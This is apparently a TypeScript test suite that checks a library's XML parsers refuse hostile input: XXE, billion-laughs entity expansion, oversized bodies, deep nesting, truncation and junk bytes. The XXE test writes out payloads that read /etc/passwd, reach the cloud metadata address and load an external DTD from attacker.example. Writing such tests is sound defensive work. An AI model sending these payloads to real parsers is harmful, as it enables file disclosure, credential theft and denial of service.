/**
 * Hostile and broken input against every parser: XXE with a SYSTEM entity, billion laughs, a 10 MB body over
 * the cap, truncation at every byte, unclosed tags, HTML pages, deep nesting, random bytes. Each must be
 * refused with a specific code and reason, quickly, without throwing, and nothing is ever expanded or read.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  buildAttendeeSearchRequest,
  buildAttendeeSearchResponse,
  buildFailedNotificationsXml,
  buildFetchListRequest,
  buildFetchListResponse,
  buildNotification,
  parseAttendeeSearchRequest,
  parseAttendeeSearchResponse,
  parseFailedNotificationsJson,
  parseFailedNotificationsXml,
  parseFetchListRequest,
  parseFetchListResponse,
  parseNotification,
} from '../src/index.ts';
import type { ParseFailure, XmlParseOptions } from '../src/index.ts';

type Parser = (input: string | Uint8Array, options?: XmlParseOptions) => { ok: true } | ParseFailure;

/** Every parser, with a valid document of its own format. */
const PARSERS: [name: string, parse: Parser, valid: string][] = [
  ['parseAttendeeSearchRequest', parseAttendeeSearchRequest, buildAttendeeSearchRequest({ firstName: 'A', ownerLoginId: 'o@x', maximumNumberRecords: 5 })],
  [
    'parseAttendeeSearchResponse',
    (input, options) => parseAttendeeSearchResponse(input, { maxRecords: 100, ...options }),
    buildAttendeeSearchResponse([{ externalId: 'E1', firstName: 'Ann', lastName: 'Lee' }]),
  ],
  ['parseFetchListRequest', parseFetchListRequest, buildFetchListRequest({ codeByLevel: ['US', 'W'], query: 'S*', searchBy: 'TEXT', langCode: 'EN', numToReturn: 10 })],
  [
    'parseFetchListResponse',
    (input, options) => parseFetchListResponse(input, { longCode: 'US', numToReturn: 10 }, options),
    buildFetchListResponse([{ code: 'US-W', shortCode: 'W', text: 'West', matchValue: 'West' }]),
  ],
  ['parseNotification', parseNotification, buildNotification({ eventType: 'E', objectType: 'EXPRPT', objectUri: 'https://x/1', eventDateTime: '2012-05-01' })],
  [
    'parseFailedNotificationsXml',
    parseFailedNotificationsXml,
    buildFailedNotificationsXml([{ context: null, eventDateTime: '2012-11-14T19:45:25', eventType: 'E', notificationUri: 'https://n/1', objectType: 'EXPRPT', objectUri: 'https://o/1' }]),
  ],
];

/** Runs `parse`, checks it answers a refusal with `code` within `ms`, and returns the reason. */
function refusedQuickly(parse: Parser, input: string | Uint8Array, code: string, ms = 1000, options?: XmlParseOptions): string {
  const started = performance.now();
  let result: ReturnType<Parser>;
  assert.doesNotThrow(() => {
    result = parse(input, options);
  });
  const elapsed = performance.now() - started;
  assert.equal(result!.ok, false);
  const failure = result! as ParseFailure;
  assert.equal(failure.code, code, failure.reason);
  assert.ok(elapsed < ms, `took ${elapsed.toFixed(0)} ms`);
  return failure.reason;
}

test('every parser accepts its own valid document (the baseline for the hostile cases)', () => {
  for (const [name, parse, valid] of PARSERS) assert.equal(parse(valid).ok, true, name);
});

test('XXE: a SYSTEM entity is refused at the DOCTYPE, never resolved', () => {
  for (const [name, parse, valid] of PARSERS) {
    const root = /<([A-Za-z-]+)[ />]/.exec(valid.replace(/^<\?xml[^>]*>/, ''))![1]!;
    for (const declaration of [
      `<!DOCTYPE ${root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`,
      `<!DOCTYPE ${root} SYSTEM "http://169.254.169.254/latest/meta-data/">`,
      `<!DOCTYPE ${root} [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>`,
    ]) {
      const hostile = valid.replace(/^(<\?xml[^>]*>)?/, `$1${declaration}`).replace(/(<[A-Za-z-]+>)([^<]+)/, '$1&xxe;');
      const reason = refusedQuickly(parse, hostile, 'dtd');
      assert.match(reason, /DOCTYPE \(DTD\): DTDs and entity declarations are not allowed/, name);
      assert.doesNotMatch(reason, /root:/, 'nothing from /etc/passwd');
    }
    // The entity reference alone (no declaration) is an undefined entity.
    refusedQuickly(parse, valid.replace(/(<[A-Za-z-]+>)([^<]+)/, '$1&xxe;'), 'malformed');
  }
});

test('billion laughs (and its quadratic-blowup cousin) are refused in constant time', () => {
  const lol = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= 9; i++) lol.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  for (const [name, parse, valid] of PARSERS) {
    const root = /<([A-Za-z-]+)[ />]/.exec(valid.replace(/^<\?xml[^>]*>/, ''))![1]!;
    const laughs = `<?xml version="1.0"?><!DOCTYPE ${root} [${lol.join('')}]><${root}>&lol9;</${root}>`;
    refusedQuickly(parse, laughs, 'dtd', 100);
    const blowup = `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY a "${'x'.repeat(50_000)}">]><${root}>${'&a;'.repeat(20_000)}</${root}>`;
    refusedQuickly(parse, blowup, 'dtd', 100);
    assert.ok(name);
  }
});

test('a 10 MB body is refused by the size cap before any parsing, as a string or as bytes', () => {
  const tenMegabytes = `<AttendeeSearchResponse>${'<Attendee/>'.repeat(1_000_000)}</AttendeeSearchResponse>`;
  assert.ok(tenMegabytes.length > 10_000_000);
  const bytes = new TextEncoder().encode(tenMegabytes);
  for (const [name, parse] of PARSERS) {
    assert.match(refusedQuickly(parse, tenMegabytes, 'too-large', 200), /over the 2097152-byte limit/, name);
    assert.match(refusedQuickly(parse, bytes, 'too-large', 50), /\d+ bytes, over the 2097152-byte limit/, name);
  }
  // The cap is a parameter.
  const [, parse, valid] = PARSERS[1]!;
  refusedQuickly(parse, valid, 'too-large', 100, { maxBytes: 100 });
  assert.equal(parse(valid, { maxBytes: 10_000 }).ok, true);
  const json = `[${'{"a":1},'.repeat(1_500_000)}{}]`;
  const result = parseFailedNotificationsJson(json);
  assert.equal(result.ok, false);
  if (!result.ok) assert.equal(result.code, 'too-large');
});

test('truncated at every position: always a refusal, never an exception', () => {
  for (const [name, parse, valid] of PARSERS) {
    for (let end = 0; end < valid.length; end++) {
      const result = parse(valid.slice(0, end));
      assert.equal(result.ok, false, `${name} accepted ${JSON.stringify(valid.slice(0, end))}`);
      if (!result.ok) assert.ok(['malformed', 'invalid'].includes(result.code), `${name} at ${end}: ${result.code}`);
    }
  }
});

test('unclosed and mismatched tags', () => {
  for (const [name, parse, valid] of PARSERS) {
    const withoutClose = valid.replace(/<\/[A-Za-z-]+>$/, '');
    assert.match(refusedQuickly(parse, withoutClose, 'malformed'), /is not closed \(truncated\?\)/, name);
    const mismatched = valid.replace(/<\/([A-Za-z-]+)>$/, '</$1x>');
    assert.match(refusedQuickly(parse, mismatched, 'malformed'), /is closed by/, name);
  }
});

test('HTML pages are named as such', () => {
  const pages = [
    '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>500 Internal Server Error</title></head><body><h1>Oops</h1><br></body></html>',
    '<html><head><title>Sign in</title></head><body><form><input name=user></form></body></html>',
    '\n\n<!doctype HTML><HTML><BODY>502 Bad Gateway</BODY></HTML>',
    '<?xml version="1.0" encoding="utf-8"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>Maintenance</p></body></html>',
  ];
  for (const [name, parse] of PARSERS) {
    for (const page of pages) assert.match(refusedQuickly(parse, page, 'html'), /HTML page, not XML/, name);
  }
});

test('deep nesting is refused at the depth cap, quickly, with no stack overflow', () => {
  const depth = 250_000; // 1.75 MB: under the 2 MiB cap, so the depth cap is what refuses it
  for (const [name, parse, valid] of PARSERS) {
    const root = /<([A-Za-z-]+)[ />]/.exec(valid.replace(/^<\?xml[^>]*>/, ''))![1]!;
    const deep = `<${root}>${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</${root}>`;
    assert.match(refusedQuickly(parse, deep, 'too-deep', 500), /nested more than 32 levels deep/, name);
  }
});

test('random bytes and junk never make a parser throw', () => {
  let seed = 42;
  const random = (): number => {
    seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31;
    return seed / 2 ** 31;
  };
  const alphabet = ['<', '>', '/', '&', ';', '!', '?', '[', ']', '-', '"', "'", '=', ' ', 'a', 'b', '#', 'x', '\n', '\u0000', 'é', 'CDATA', 'DOCTYPE', 'Attendee'];
  for (const [name, parse, valid] of PARSERS) {
    for (let i = 0; i < 300; i++) {
      const junk = Array.from({ length: 1 + Math.floor(random() * 60) }, () => alphabet[Math.floor(random() * alphabet.length)]).join('');
      assert.doesNotThrow(() => parse(junk), name);
      // A valid document with junk spliced in somewhere.
      const at = Math.floor(random() * valid.length);
      assert.doesNotThrow(() => parse(valid.slice(0, at) + junk + valid.slice(at)), name);
      const bytes = new Uint8Array(Array.from({ length: 40 }, () => Math.floor(random() * 256)));
      assert.doesNotThrow(() => parse(bytes), name);
    }
    for (const weird of [null, undefined, 7, {}, [], new ArrayBuffer(4)] as unknown[]) {
      const result = parse(weird as string);
      assert.equal(result.ok, false, name);
    }
  }
});

test('many elements within the cap parse in linear time', () => {
  // ~1.9 MB of well-formed XML that is not the expected shape: parsed fully, then refused on content.
  const big = `<fetch-list-response>${'<item><code>X</code></item>'.repeat(70_000)}</fetch-list-response>`;
  const started = performance.now();
  const result = parseFetchListResponse(big, { numToReturn: 100 });
  assert.ok(performance.now() - started < 2000);
  assert.equal(result.ok, false);
  if (!result.ok) assert.equal(result.code, 'too-many-results');
});
